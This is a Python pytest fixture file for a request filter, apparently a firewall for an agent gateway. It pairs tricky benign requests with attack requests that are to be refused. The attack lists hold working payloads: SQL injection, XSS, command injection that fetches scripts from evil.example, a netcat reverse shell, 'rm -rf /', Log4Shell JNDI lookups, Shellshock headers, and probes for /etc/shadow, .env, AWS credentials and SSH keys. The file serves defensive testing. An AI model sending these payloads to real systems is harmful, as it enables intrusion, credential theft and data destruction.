"""Requests as people and programs send them, and requests as attackers do."""

import json

import pytest

HEADERS = {
    ":authority": "localhost:8443",
    "accept": "*/*",
    "accept-encoding": "gzip, deflate, br",
    "accept-language": "de-CH,de;q=0.9,en;q=0.8",
    "content-type": "application/json",
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
}

PATHS = """
/
/healthz
/v1/services
/v1/services/utilities
/v1/services:watch
/v1/servers/utilities/tools
/v1/servers/utilities/tools/json:call
/v1/servers/github/tools/create_pull_request:invoke
/v1/servers/git/resources
/v1/servers/files/tools/read..write:invoke
/v1/servers/env/resourceTemplates
/v1/agents/von-neumann/tasks/0195f0b2-7f00-7c3e-9d2a-1c1f6a7b8c9d:watch
/v1/agents/server-status-bot/tasks
/agentmesh.mcp.v1.McpBridgeService/CallTool
/agentmesh.agent.v1.AgentService/SubmitTask
/grpc.health.v1.Health/Check
/.well-known/jwks.json
/.well-known/agent-card.json
/.well-known/oauth-authorization-server
/oauth2/token
/graphql
/events
/ws
/docs/swagger-ui.css
/docs/index.html
/openapi.json
/api/users/42/orders/2024-11-23
/api/files/report..final.pdf
/api/files/a%20b%20c.txt
/api/environments/production
/api/git/refs/heads/main
/api/actuators/7
/api/caf%C3%A9/%E4%B8%AD%E6%96%87
/api/wp/v2/posts
/static/app.3f9c2a7b.js
/solr-report/2024
/owners
/~ada/notes.txt
/api/percent/100%25
/api/v1.2.3/items;sort=asc
""".strip().splitlines()

QUERIES = r"""
page_size=50&page_token=eyJvIjo1MH0
after_sequence=12
query=what+is+the+union+of+two+sets
q=the+European+Union+select+committee+report
q=O%27Reilly+and+Associates
q=rock+%27n%27+roll
q=it%27s+5+or+6+people
q=Tom+%26+Jerry
q=select+the+best+option+from+the+list
q=drop+the+table+off+at+my+house
q=insert+into+the+slot+and+update+the+settings
q=how+does+%60ls%60+work
q=cat+food%3B+dog+food
q=use+curl+or+wget
q=a+%7C+b+%7C+c
fields=name|id|roles
fields=name;id
columns=id;whoami_count
cat=5&id=7&ls=3&ping=1
a=1&id=2&uname=ada&sleep=8
q=sleep+for+10+seconds
q=time.sleep(5)
q=what+does+sleep(5)+do
expr=1%2B1%3D2
expr=2*(3%2B4)%3E5+and+3%3E2
filter=state%3D%27FAILED%27+or+state%3D%27DONE%27
filter=name+%3D+%27ada%27+and+age+%3E+30
filter=state+eq+1+or+state+eq+2
uri=file%3A%2F%2F%2Fhome%2Fada%2Fnotes.txt
uri=file:///etc/hosts
uri=docs://intro/../guide
path=../images/logo.png
path=../../shared/readme.md
redirect_uri=https%3A%2F%2Fapp.example.org%2Fcallback%3Fnext%3D%2Fhome
redirect_uri=http://127.0.0.1:8400/callback
state=af0ifjsldkj&code=SplxlOBeZQQYbYS6WxSbIA
grant_type=client_credentials&scope=read+write
q=%3Cb%3Ebold%3C%2Fb%3E
q=a+%3C+b+and+c+%3E+d
q=how+do+I+escape+%3Cp%3E+tags
q=javascript:+the+good+parts
q=learn+javascript+online%3D1
q=conversion=5
q=one+on+one=fun
q=onboarding%3Dyes
q=%22exact+phrase%22+or+%22other+phrase%22
q=price+%3E%3D+%24100
q=%24%7Bname%7D
q=%24%7Buser.lower%7D
template=Hello+%24%7BUSER%7D+from+%24%7BHOST%7D
q=100%25+sure
q=50%
q=line+one%0Aline+two
q=see+location%3A+Basel
q=content-type%3A+text
q=%E4%BD%A0%E5%A5%BD
q=caf%C3%A9+na%C3%AFve
since=2024-11-23T10:00:00%2B01:00
interval=P1DT2H
labels=env%3Dprod,team%3Dml
range=1..10
version=%5E1.2.3
email=ada%2Btest@example.org
q=C%23+versus+F%23
q=users%27+--+all+of+them
q=note+--
q=---
sort=-created_at
json=%7B%22a%22%3A%5B1%2C2%2C%7B%22b%22%3Anull%7D%5D%7D
query=%7B+services+%7B+name+tools+%7B+name+%7D+%7D+%7D
q=the+union+(all+members)+voted
q=etc/passwd+explained
q=rm+removes+files
q=SELECT+name+FROM+users
q=select+a+from+b+union+select+c+from+d
q=The+class+of+1984+and+1+more
q=if+x+%3D%3D+1+and+y+%3D%3D+2
q=true+or+false
q=%27single%27+and+%27double%27
""".strip().splitlines()

PROSE = [
    "Please summarise the attached report; it's due on Friday.",
    "Robert'); is how the joke about little Bobby Tables begins: DROP TABLE students; -- and so on.",
    "SQL injection works when input such as ' or '1'='1 is put into a statement. Explain how to avoid it.",
    "Explain what ${jndi:...} did in Log4j and how the fix works.",
    "Write a page with <script>alert('hello')</script> in it.",
    "<html><body onload='init()'><script src=\"/app.js\"></script></body></html>",
    "Run `rm -rf build && make all | tee log; cat /etc/passwd` and tell me what it does.",
    "curl https://example.org/install.sh | bash -s -- --yes",
    "cd ../../.. && ls -la /etc/ && cat ../../../etc/hosts",
    "The path is C:\\Users\\ada\\..\\bob\\notes.txt",
    "UNION SELECT joins rows: SELECT a FROM t UNION SELECT b FROM u;",
    "SELECT * FROM users WHERE name = 'ada' OR 1=1; -- everything",
    "SELECT name, 'x' OR '1'='1' FROM t",
    "DELETE FROM orders WHERE id IN (SELECT id FROM old) ; DROP TABLE old;",
    "WAITFOR DELAY '00:00:05'",
    "SELECT pg_sleep(1)",
    "INSERT INTO notes(text) VALUES ('it''s done')",
    "CREATE TABLE t (id INTEGER PRIMARY KEY); INSERT INTO t VALUES (1), (2);",
    "import os\nos.system('whoami')\nprint(open('/etc/passwd').read())",
    "def f(x):\n    return x if x == 1 or 1 == 1 else None",
    "const s = `${lower} and ${upper}`; console.log(`${a}${b}`)",
    "echo ${HOME} ${PATH:-/bin} $(uname -a) `date`",
    'name: "${env:USER}"\npath: ${sys:home}/x',
    "() { :; }; is the beginning of a famous bug in bash",
    "Kubernetes: kubectl exec -it pod -- /bin/sh -c 'ls; id'",
    "Dear Sir or Madam, 1 = 1 is always true.",
    "He said 'yes' or 'no' = 'maybe'.",
    "x' = y' or z' where x' is the derivative",
    "f'(x) = 0 or f''(x) = 0",
    "ada' or bob",
    "1' 6\" tall or 5' 2\"",
    "https://example.org/?q=%3Cscript%3Ealert(1)%3C/script%3E was in the access log",
    "javascript:alert(document.cookie) is a bookmarklet",
    "-----BEGIN CERTIFICATE-----\nMIIB8TCCAZegAwIBAgIUJ\n-----END CERTIFICATE-----",
    "\u4f60\u597d\uff0c\u4e16\u754c \u00e4\u00f6\u00fc \U0001f600",
    "half a character: \ud800",
    "nul: \u0000 and bell: \u0007",
    "a,b,c\n1,2,3\n'x','y','z'\n",
    "# Title\n\n- item `code`\n- [link](javascript:void(0))\n\n```sh\nsudo rm -rf /tmp/x\n```",
    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\n\r\n<p>hi</p>",
]

BODIES = [
    *({"input": [{"text": text}]} for text in PROSE),
    {"expression": "(1 + 2) * 3 == 9 or 1 == 1"},
    {"query": "SELECT id FROM users WHERE email = 'a@b.c' OR '1'='1'", "database": "main"},
    {"sql": "select table_name from information_schema.tables; drop table if exists t"},
    {"code": "while True:\n    try:\n        break\n    except Exception as e:\n        print(f'{e}')"},
    {"html": '<img src=x onerror="alert(\'x\')"><iframe src="javascript:alert(1)"></iframe>'},
    {"text": '{"a": "${b}", "c": [1, 2, {"d": "\' or \'"}]}', "path": "$.a"},
    {"pattern": "^(?:a|b)+\\.\\./(.*)$", "text": "../a"},
    {"path": "../../etc/nginx/nginx.conf"},
    {"uri": "file:///etc/passwd"},
    {"url": "https://example.org/search?q=1%27%20or%201=1"},
    {"username": "ada", "password": "x' or y"},
    {"username": "ada", "password": "';--#/*"},
    {"username": "ada", "password": "Tr0ub4dor&3'\"|"},
    {"command": "ls -la; whoami; id | cat"},
    {"query": "query ($n: String!) { service(name: $n) { tools { name } } }", "variables": {"n": "utilities"}},
    {"query": 'mutation { callTool(server: "u", name: "json", arguments: "{\\"a\\": 1}") { text } }'},
    [1, 2.5, None, True, "x", ["y", {"z": []}]],
    "a text",
    {},
    [[[[[[[[[["deep"]]]]]]]]]],
    {"a" * 500: "b" * 5000},
    {"amount": "12.50", "currency": "CHF", "note": "Rent; it's for June & July"},
    {"ticker": "BRK.B", "from": "2024-01-01", "to": "2024-12-31", "fields": ["open", "close"]},
    {"diff": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-' or 1=1 --\n+''"},
]

AGENTS = [
    "curl/8.5.0",
    "grpc-python/1.76.0 grpc-c/51.0.0 (linux; chttp2)",
    "grpc-go/1.68.0",
    "connect-es/2.0.0",
    "python-httpx/0.28.1",
    "okhttp/4.12.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "kube-probe/1.31",
    "Prometheus/2.54.1",
    "modelcontextprotocol/python-sdk",
]

OTHER_HEADERS = [
    {"cookie": "session=abc.def; theme=dark; prefs={%22a%22:1}"},
    {"referer": "https://app.example.org/?q=it's+<b>&next=../x"},
    {"if-none-match": 'W/"3f9c", "a\'b"'},
    {"authorization": "Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJhZGEifQ.c2ln-_"},
    {"baggage": "userId=alice,serverNode=DF%2028,isProduction=false"},
    {"traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
    {"x-template": "${HOME} ${user}"},
    {"sec-ch-ua": '"Not A(Brand";v="8", "Chromium";v="132"'},
]


def _benign():
    for path in PATHS:
        yield path, {}, b""
    for query in QUERIES:
        yield f"/search?{query}", {}, b""
    for body in BODIES:
        yield "/agentmesh.mcp.v1.McpBridgeService/CallTool", {}, json.dumps(body).encode()
    for text in PROSE:
        yield "/echo", {"content-type": "text/plain"}, text.encode(errors="replace")
    for agent in AGENTS:
        yield "/v1/services", {"user-agent": agent}, b""
    for headers in OTHER_HEADERS:
        yield "/v1/services", headers, b""
    form = {"content-type": "application/x-www-form-urlencoded"}
    yield "/oauth2/token", form, b"grant_type=password&username=ada&password=x%27+or+y%3B--"
    yield "/binary", {"content-type": "application/octet-stream"}, bytes(range(256)) * 4


_SQL = r"""
id=1%27+or+%271%27=%271
id=1'%20OR%20'a'='a'--%20
id=1+or+1=1
id=-1+or+1=1--
user=admin%27--
user=admin%27+%23
user=%22+or+%22%22=%22
id=1+UNION+SELECT+username,password+FROM+users
id=-1%27+union+all+select+null,null,version()--+
id=1/**/union/**/select/**/1,2,3
id=1%2527%2520union%2520select%25201
id=1)+union+(select+1)
id=1';DROP+TABLE+users;--
id=1;+delete+from+users
id=1';exec+xp_cmdshell('dir')--
id=1;insert+into+users+values(1)
id=1+and+sleep(5)
id=1'+and+(select+sleep(5))--+
id=1;select+pg_sleep(10)
id=1';waitfor+delay+'0:0:5'--
id=1'+and+extractvalue(1,concat(0x7e,version()))
id=1'+or+'x'+like+'x
id=1'||1=1+or+1=1
id=1)+or+(1=1
""".strip().splitlines()

_SCRIPTS = r"""
q=<script>alert(1)</script>
q=%3Cscript%3Ealert(1)%3C/script%3E
q=%253Cscript%253Ealert(1)%253C/script%253E
q=%22%3E%3CScRiPt+src=//evil.example/x.js%3E
q=<img+src=x+onerror=alert(1)>
q=%3Csvg/onload=alert(1)%3E
q=<body+onload=alert(document.cookie)>
q=<a+href="javascript:alert(1)">x</a>
q=<iframe+src=javascript:alert(1)>
next=javascript:alert(document.domain)
q=<details+open+ontoggle=alert(1)>
q=<object+data="data:text/html;base64,PHNjcmlwdD4=">
""".strip().splitlines()

_SHELL = r"""
host=127.0.0.1;cat+/etc/passwd
host=1.1.1.1%7Cwhoami
host=x%26%26curl+http://evil.example/x
host=$(whoami)
host=$(id)
host=%60cat+/etc/passwd%60
host=;wget+http://evil.example/x.sh+-O-
host=;bash+-i
host=;nc+-e+/bin/sh+10.0.0.1+4444
host=x;/bin/id
host=x%0Acat%20/etc/shadow
host=;cat${IFS}/etc/passwd
host=|python3+-c+'import+os'
host=a;rm+-rf+/
host=x;ping+-c+10+127.0.0.1
host=|cmd.exe+/c+dir
""".strip().splitlines()

_FILES = r"""
file=../../../../etc/passwd
file=..%2f..%2f..%2fetc%2fpasswd
file=%252e%252e%252f%252e%252e%252fetc%252fshadow
file=..\..\..\windows\win.ini
file=../etc/passwd
file=/etc/passwd
file=file:///etc/shadow
file=/proc/self/environ
file=report.pdf%00.php
file=a%2500b
next=%0d%0aSet-Cookie:%20admin=1
next=x%0aLocation:%20http://evil.example
""".strip().splitlines()

_LOOKUPS = r"""
q=${jndi:ldap://evil.example/a}
q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
q=${${lower:j}ndi:${lower:l}dap://evil.example/a}
q=${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}
q=${${env:NaN:-j}ndi:dns://evil.example}
""".strip().splitlines()

_PATHS = r"""
/.git/config
/.git/HEAD
/app/.git/index
/.env
/.env.production
/api/.env
/.aws/credentials
/.ssh/id_rsa
/.svn/entries
/.DS_Store
/wp-admin/
/wp-login.php
/wp-content/plugins/x
/xmlrpc.php
/phpmyadmin/index.php
/cgi-bin/test.cgi
/server-status
/actuator/env
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/_ignition/execute-solution
/HNAP1/
/static/../../etc/passwd
/static/..%2f..%2fetc/passwd
/static/%252e%252e/%252e%252e/etc/passwd
/static/..\..\windows
/a/..;/manager
/a%00b
/a%0d%0aSet-Cookie:x
""".strip().splitlines()

_HEADERS = [
    {"user-agent": "${jndi:ldap://evil.example/a}"},
    {"x-api-version": "${${lower:jndi}:${lower:rmi}://evil.example/poc}"},
    {"referer": "${${::-j}ndi:ldap://evil.example}"},
    {"x-forwarded-for": "${jndi:dns://evil.example}"},
    {"user-agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
    {"cookie": "a=() { x;}; echo hi"},
    {"user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)"},
    {"user-agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"},
    {"user-agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
    {"user-agent": "gobuster/3.6"},
    {"user-agent": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
]

_BODIES = [
    b'{"username": "admin\' or \'1\'=\'1", "password": "x"}',
    b'{"username": "\' or 1=1--", "password": "x"}',
    b'{"username": "\\u0027 or 1=1 --", "password": "x"}',
    b'{"username": "x\\") or (\\"1\\"=\\"1", "password": "x"}',
    b'{"message": "${jndi:ldap://evil.example/a}"}',
    b'{"${jndi:rmi://evil.example/a}": 1}',
    b'{"a": {"b": [{"c": "\\u0024{jndi:dns://evil.example}"}]}}',
    b"plain text with ${jndi:ldaps://evil.example/a} in it",
    b"[" * 40 + b'"${jndi:ldap://evil.example/a}"' + b"]" * 40,
]


def _attacks():
    for query in (*_SQL, *_SCRIPTS, *_SHELL, *_FILES, *_LOOKUPS):
        yield f"/search?{query}", {}, b""
    for path in _PATHS:
        yield path, {}, b""
    for headers in _HEADERS:
        yield "/v1/services", headers, b""
    for body in _BODIES:
        yield "/v1/auth/login", {}, body
    form = {"content-type": "application/x-www-form-urlencoded"}
    yield "/oauth2/token", form, b"grant_type=password&username=admin%27+or+%271%27%3D%271"


@pytest.fixture
def benign_requests():
    """Path with query, headers, body of requests that nobody may refuse."""
    return [(path, HEADERS | headers, body) for path, headers, body in _benign()]


@pytest.fixture
def attacks():
    """The same of requests that are to be refused."""
    return [(path, HEADERS | headers, body) for path, headers, body in _attacks()]
